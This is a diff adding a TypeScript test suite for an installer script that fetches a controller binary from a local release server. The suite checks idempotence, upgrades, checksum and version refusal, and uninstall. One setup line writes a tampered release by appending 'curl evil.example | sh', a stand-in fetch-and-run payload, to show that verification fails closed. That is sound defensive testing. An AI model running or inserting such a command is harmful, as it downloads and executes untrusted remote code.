@@ -1,0 +1,217 @@
+// install.sh against releases served from 127.0.0.1, installing into a
+// temporary root prefix: fresh install, idempotent re-run, upgrade, fail-closed
+// checksum and version checks, local file, custom paths, extra flags, uninstall.
+
+import { createHash } from 'node:crypto';
+import { execFileSync } from 'node:child_process';
+import { cpSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative } from 'node:path';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { ASSET, NAME, makeRelease, repoRoot, runScript, startReleaseServer, type ReleaseServer, type RunResult } from './support/releases.ts';
+
+const installSh = join(repoRoot, 'install.sh');
+const work = mkdtempSync(join(tmpdir(), 'install-test-'));
+const timings: string[] = [];
+let server: ReleaseServer;
+const releases: Record<string, string> = {};
+
+function sha256(path: string): string {
+  return createHash('sha256').update(readFileSync(path)).digest('hex');
+}
+
+/** Every file under `dir` (relative path → size, mtime and inode), to prove what was or was not rewritten. */
+function snapshot(dir: string): Record<string, string> {
+  const out: Record<string, string> = {};
+  const walk = (d: string) => {
+    for (const name of readdirSync(d)) {
+      const p = join(d, name);
+      const st = statSync(p);
+      if (st.isDirectory()) walk(p);
+      else out[relative(dir, p)] = `${st.size}/${st.mtimeMs}/${st.ino}`;
+    }
+  };
+  if (existsSync(dir)) walk(dir);
+  return out;
+}
+
+async function install(label: string, args: string[], env: Record<string, string> = {}): Promise<RunResult & { requests: string[] }> {
+  const before = server.requests.length;
+  const res = await runScript(installSh, args, env);
+  timings.push(`${label}: ${res.ms.toFixed(0)} ms`);
+  return { ...res, requests: server.requests.slice(before) };
+}
+
+function expectOk(res: RunResult): void {
+  assert.is(res.code, 0, `install.sh failed:\n${res.stdout}\n${res.stderr}`);
+}
+
+test.before(async () => {
+  server = await startReleaseServer();
+  for (const version of ['0.1.0', '0.2.0']) {
+    releases[version] = makeRelease(work, version);
+    server.publish(version, releases[version]!);
+  }
+  // 0.3.0: SHA256SUMS of a good build, but the binary served was altered.
+  const tampered = join(work, 'tampered');
+  cpSync(makeRelease(work, '0.3.0'), tampered, { recursive: true });
+  writeFileSync(join(tampered, ASSET), `${readFileSync(join(tampered, ASSET), 'utf8')}curl evil.example | sh\n`);
+  server.publish('0.3.0', tampered);
+  // 9.9.9: a directory whose binary reports another version.
+  server.publish('9.9.9', releases['0.1.0']!);
+});
+
+test.after(async () => {
+  await server.close();
+  rmSync(work, { recursive: true, force: true });
+  console.log(`install.sh timings (loopback server, stand-in binary):\n  ${timings.join('\n  ')}`);
+});
+
+const root = join(work, 'root');
+const bin = join(root, 'usr/local/bin', NAME);
+const unit = join(root, 'etc/systemd/system', `${NAME}.service`);
+const envFile = join(root, 'etc', NAME, 'env');
+
+test('a fresh install writes the verified binary, the unit, the environment file and the uninstall script', async () => {
+  const res = await install('fresh install', ['--root', root, '--base-url', server.baseUrl, '--version', '0.1.0']);
+  expectOk(res);
+  assert.is(sha256(bin), sha256(join(releases['0.1.0']!, ASSET)));
+  assert.is(statSync(bin).mode & 0o777, 0o755);
+  assert.is(readFileSync(unit, 'utf8'), readFileSync(join(repoRoot, 'deploy/systemd', `${NAME}.service`), 'utf8'));
+  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS=""$/m);
+  assert.ok(existsSync(join(root, 'usr/local/bin', `${NAME}-uninstall.sh`)));
+  assert.match(res.stdout, /Version: 0\.1\.0/, 'prints what the installed binary reports');
+  assert.ok(res.requests.includes(`/releases/0.1.0/${ASSET}`));
+  assert.match(res.stdout, /systemd was not touched/);
+  assert.match(res.stderr, /no kubeconfig at .*\/etc\/vc-hypernode-controller-manager\/kubeconfig/);
+});
+
+test('re-running the same install downloads no binary and rewrites nothing', async () => {
+  const before = snapshot(root);
+  const res = await install('re-run (no-op)', ['--root', root, '--base-url', server.baseUrl, '--version', '0.1.0']);
+  expectOk(res);
+  assert.not.ok(res.requests.some((r) => r.endsWith(ASSET)), `binary fetched again: ${res.requests.join(', ')}`);
+  assert.equal(snapshot(root), before);
+  assert.match(res.stdout, /already the wanted build/);
+});
+
+test('upgrading replaces only the binary', async () => {
+  const before = snapshot(root);
+  const res = await install('upgrade 0.1.0 -> 0.2.0', ['--root', root, '--base-url', server.baseUrl, '--version', '0.2.0']);
+  expectOk(res);
+  assert.is(sha256(bin), sha256(join(releases['0.2.0']!, ASSET)));
+  assert.match(res.stdout, /Version: 0\.2\.0/);
+  const after = snapshot(root);
+  assert.is.not(after[`usr/local/bin/${NAME}`], before[`usr/local/bin/${NAME}`]);
+  for (const file of [`etc/systemd/system/${NAME}.service`, `etc/${NAME}/env`, `usr/local/bin/${NAME}-uninstall.sh`]) {
+    assert.is(after[file], before[file], `${file} was rewritten`);
+  }
+});
+
+test('a binary that does not match SHA256SUMS fails closed and leaves the installed one intact', async () => {
+  const before = snapshot(root);
+  const res = await install('checksum mismatch (fails)', ['--root', root, '--base-url', server.baseUrl, '--version', '0.3.0']);
+  assert.is.not(res.code, 0);
+  assert.match(res.stderr, new RegExp(`checksum mismatch for ${ASSET}.*nothing was installed or changed`));
+  assert.equal(snapshot(root), before, 'no file added, removed or rewritten (no temporary file left either)');
+});
+
+test('a release whose binary reports another version than requested is refused', async () => {
+  const before = snapshot(root);
+  const res = await install('wrong version (fails)', ['--root', root, '--base-url', server.baseUrl, '--version', '9.9.9']);
+  assert.is.not(res.code, 0);
+  assert.match(res.stderr, /is not version 9\.9\.9; it reports: Version: 0\.1\.0/);
+  assert.equal(snapshot(root), before);
+});
+
+test('an unknown version fails with the URL it tried', async () => {
+  const res = await install('missing version (fails)', ['--root', root, '--base-url', server.baseUrl, '--version', '7.0.0']);
+  assert.is.not(res.code, 0);
+  assert.match(res.stderr, new RegExp(`could not download ${server.baseUrl}/7\\.0\\.0/SHA256SUMS`));
+});
+
+test('without a release source the installer says how to give one', async () => {
+  const res = await install('no source (fails)', ['--root', join(work, 'unused')]);
+  assert.is.not(res.code, 0);
+  assert.match(res.stderr, /no release source: set INSTALL_VC_HNC_BASE_URL or --base-url/);
+  assert.not.ok(existsSync(join(work, 'unused')));
+});
+
+test('extra flags go to the environment file and survive a re-run that does not mention them', async () => {
+  expectOk(await install('set extra flags', ['--root', root, '--base-url', server.baseUrl, '--version', '0.2.0', '--flags', '-v=2 --kube-api-qps=20']));
+  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS="-v=2 --kube-api-qps=20"$/m);
+  expectOk(await install('re-run keeping flags', ['--root', root, '--base-url', server.baseUrl, '--version', '0.2.0']));
+  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS="-v=2 --kube-api-qps=20"$/m);
+  const bad = await install('quoted flags (fails)', ['--root', root, '--base-url', server.baseUrl, '--flags', '--master="x"']);
+  assert.is.not(bad.code, 0);
+  assert.match(bad.stderr, /extra flags cannot contain quotes/);
+});
+
+test('uninstall removes every file the installer wrote', async () => {
+  const res = await install('uninstall', ['--uninstall', '--root', root]);
+  expectOk(res);
+  assert.equal(snapshot(root), {});
+  assert.not.ok(existsSync(join(root, 'etc', NAME)));
+  const again = await install('uninstall again (fails)', ['--uninstall', '--root', root]);
+  assert.is.not(again.code, 0);
+  assert.match(again.stderr, /nothing to uninstall/);
+});
+
+test('a local file installs from the environment variables, into custom paths, verified by the SHA256SUMS beside it', async () => {
+  const localRoot = join(work, 'local-root');
+  const res = await install('local file, custom paths', [], {
+    INSTALL_ROOT: localRoot,
+    INSTALL_VC_HNC_BIN_FILE: join(releases['0.2.0']!, ASSET),
+    INSTALL_VC_HNC_BIN_DIR: '/opt/vc/bin',
+    INSTALL_VC_HNC_KUBECONFIG: '/etc/kubernetes/hypernode.conf',
+  });
+  expectOk(res);
+  assert.is(sha256(join(localRoot, 'opt/vc/bin', NAME)), sha256(join(releases['0.2.0']!, ASSET)));
+  const installedUnit = readFileSync(join(localRoot, 'etc/systemd/system', `${NAME}.service`), 'utf8');
+  assert.match(installedUnit, new RegExp(`^ExecStart=/opt/vc/bin/${NAME} \\\\$`, 'm'));
+  assert.match(installedUnit, /^LoadCredential=kubeconfig:\/etc\/kubernetes\/hypernode\.conf$/m);
+  assert.equal(server.requests.filter((r) => r.includes('local')), []);
+
+  // The same local file with a SHA256SUMS that disagrees is refused.
+  const forged = join(work, 'forged');
+  cpSync(releases['0.2.0']!, forged, { recursive: true });
+  writeFileSync(join(forged, 'SHA256SUMS'), readFileSync(join(releases['0.1.0']!, 'SHA256SUMS')));
+  const refused = await install('local file, bad SHA256SUMS (fails)', ['--root', join(work, 'forged-root'), '--bin-file', join(forged, ASSET)]);
+  assert.is.not(refused.code, 0);
+  assert.match(refused.stderr, /checksum mismatch/);
+  assert.equal(snapshot(join(work, 'forged-root')), {});
+
+  expectOk(await install('uninstall custom paths', ['--uninstall', '--root', localRoot, '--install-dir', '/opt/vc/bin']));
+  assert.equal(snapshot(localRoot), {});
+});
+
+test('--skip-systemd installs only the binary and the uninstall script', async () => {
+  const r = join(work, 'skip-root');
+  expectOk(await install('skip systemd', ['--root', r, '--base-url', server.baseUrl, '--version', '0.1.0', '--skip-systemd']));
+  assert.equal(Object.keys(snapshot(r)).sort(), [`usr/local/bin/${NAME}`, `usr/local/bin/${NAME}-uninstall.sh`]);
+});
+
+test('install.sh and the uninstall script it writes are clean under shellcheck', async () => {
+  let shellcheck = true;
+  try {
+    execFileSync('shellcheck', ['--version'], { stdio: 'ignore' });
+  } catch {
+    shellcheck = false;
+  }
+  if (!shellcheck) {
+    console.log('SKIP: shellcheck is not installed (apt-get install -y shellcheck)');
+    return;
+  }
+  const r = join(work, 'lint-root');
+  expectOk(await install('install for lint', ['--root', r, '--base-url', server.baseUrl, '--version', '0.1.0', '--skip-systemd']));
+  for (const script of [installSh, join(r, 'usr/local/bin', `${NAME}-uninstall.sh`)]) {
+    try {
+      execFileSync('shellcheck', ['-s', 'sh', script], { encoding: 'utf8' });
+    } catch (err) {
+      assert.unreachable(`shellcheck ${script}:\n${(err as { stdout?: string }).stdout}`);
+    }
+  }
+});
+
+test.run();
